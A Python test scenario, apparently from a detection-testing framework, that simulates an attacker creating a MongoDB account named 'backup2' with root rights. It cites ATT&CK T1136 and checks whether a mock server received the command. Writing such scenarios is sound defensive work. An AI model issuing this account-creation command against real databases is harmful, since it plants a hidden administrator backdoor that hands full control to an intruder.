"""G5: the attacker creates a MongoDB account with all rights."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.scenarios import SECRET
from backwatch.attack.techniques.mongodb import AbusedMongoDB


class MongodbAddsAccount(AbusedMongoDB):
    """On PyMongo, in an app whose account may do everything."""

    code = "G5"
    attack = "makes an account of the attacker's that may do everything"
    reference = "https://www.mongodb.com/docs/manual/reference/command/createUser/; ATT&CK T1136"
    rule = "privilege-change"

    def meet(self) -> object:
        """Create the account as the attacker."""
        self.open_client()["shop"].command("createUser", "backup2", pwd=SECRET, roles=[{"role": "root", "db": "admin"}])
        return None

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """Return whether the service received the command and did not refuse."""
        del got
        return b"createUser backup2" in service.kept
